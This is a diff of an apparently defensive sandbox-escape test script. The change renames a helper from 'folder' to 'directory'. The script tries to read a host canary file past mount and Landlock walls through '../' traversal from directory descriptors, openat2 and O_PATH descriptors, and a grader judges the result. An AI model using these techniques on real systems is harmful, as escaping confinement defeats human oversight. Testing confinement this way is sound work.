@@ -1,4 +1,4 @@
-# attack: reach a file of the host relative to descriptors of folders, and by openat2
+# attack: reach a file of the host relative to descriptors of directories, and by openat2
 # class: 20
 # walls: mount landlock
 # needs: syscall
@@ -8,7 +8,7 @@ import struct
 
 def attempt():
     path = context["canary_file"]
-    def from_folder(start):
+    def from_directory(start):
         root = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
         fd = os.open("../" * 40 + path[1:], os.O_RDONLY, dir_fd=root)
         return os.read(fd, 200).decode()
@@ -20,6 +20,6 @@ def attempt():
         root = os.open(os.path.dirname(path), os.O_PATH)
         os.fchdir(root)
         return read(os.path.basename(path))
-    return any_of(lambda: from_folder("/"), lambda: from_folder(os.path.dirname(library())), by_openat2, by_path_descriptor)
+    return any_of(lambda: from_directory("/"), lambda: from_directory(os.path.dirname(library())), by_openat2, by_path_descriptor)
 
 result = judged(attempt)
